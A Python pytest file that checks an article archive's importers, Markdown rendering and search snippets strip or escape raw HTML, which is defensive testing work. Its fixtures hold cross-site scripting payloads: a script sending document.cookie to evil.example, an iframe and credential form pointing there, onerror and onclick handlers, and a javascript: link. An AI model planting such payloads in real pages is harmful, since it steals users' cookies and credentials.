"""Raw HTML in imported files is never live markup: what the importers store, what
body_markdown renders to, and what search snippets contain are all safe to display."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest

from archive.importers import read_articles
from viewer.library import Library

# What a reader may render: formatting and structure, nothing active.
SAFE_TAGS = {
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "em",
    "strong",
    "b",
    "i",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "br",
    "hr",
    "mark",
    "span",
    "sup",
    "sub",
}

HOSTILE_MARKDOWN = """title: Bài độc hại
url: https://example.org/hostile
language: vi

Đoạn mở đầu có chữ xanhlam.

<script>document.location='https://evil.example/?'+document.cookie</script>

<iframe src="https://evil.example/frame"></iframe>

<form action="https://evil.example/post"><input name="pw" value="xanhlam"></form>

<p onclick="steal()">Đoạn có <b onmouseover="steal()">thuộc tính</b> sự kiện xanhlam.</p>

<img src="x" onerror="steal()" alt="ảnh xanhlam">

Văn bản nói về thẻ &lt;script&gt;alert('xanhlam')&lt;/script&gt; như là chữ.

[liên kết](javascript:steal()) xanhlam
"""

HOSTILE_TEXT_POST = """9100 - Bài văn bản có thẻ
Một đoạn văn có <script>alert('xanhlam')</script> và <iframe src=x> ở giữa chữ.
<img src=x onerror=alert(1)> xanhlam <b>đậm</b>
"""


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.events: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.events += [
            f"{tag} {name}"
            for name, value in attrs
            if name.startswith("on") or "javascript:" in (value or "").lower()
        ]


def _live_markup(html: str) -> tuple[set[str], list[str]]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags - SAFE_TAGS, parser.events


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.md").write_text(HOSTILE_MARKDOWN, encoding="utf-8")
    (folder / "hostile.txt").write_text(HOSTILE_TEXT_POST, encoding="utf-8")
    return [folder / "hostile.md", folder / "hostile.txt"]


@pytest.fixture(scope="module")
def library(hostile_files: list[Path], tmp_path_factory: pytest.TempPathFactory):
    library = Library.open(tmp_path_factory.mktemp("safe") / "data", with_sample=False)
    outcomes = library.import_paths(hostile_files)
    assert [o.status for o in outcomes] == ["imported", "imported"], outcomes
    library.ensure_index()
    yield library
    library.close()


def test_rendered_bodies_have_no_live_markup(library: Library) -> None:
    for summary in library.summaries():
        article = library.article(summary.id)
        for lang in article.languages:
            html = markdown.markdown(article.body_markdown(lang))
            assert _live_markup(html) == (set(), []), html


def test_markdown_html_is_stored_as_text_without_the_active_parts(hostile_files: list[Path]):
    (article,) = read_articles(hostile_files[0])
    texts = [p.text for p in article.passages["vi"]]
    assert not any("document.cookie" in t or "evil.example" in t for t in texts), texts
    assert not any("onclick" in t or "onerror" in t for t in texts), texts
    assert any("thuộc tính" in t for t in texts)  # the text inside the tags is kept
    assert any("<script>alert('xanhlam')</script>" in t for t in texts)  # typed as text


def test_tags_typed_in_a_text_post_stay_visible_text(hostile_files: list[Path]) -> None:
    (article,) = read_articles(hostile_files[1])
    texts = " ".join(p.text for p in article.passages["vi"])
    assert "<script>alert('xanhlam')</script>" in texts


def test_snippets_escape_everything_but_the_marks(library: Library) -> None:
    hits = library.search("xanhlam", limit=50).hits
    assert len(hits) >= 5
    for hit in hits:
        bare = hit.snippet.replace("<mark>", "").replace("</mark>", "")
        assert "<" not in bare and ">" not in bare, hit.snippet
        assert "<mark>" in hit.snippet
    assert any("&lt;script&gt;" in hit.snippet for hit in hits)
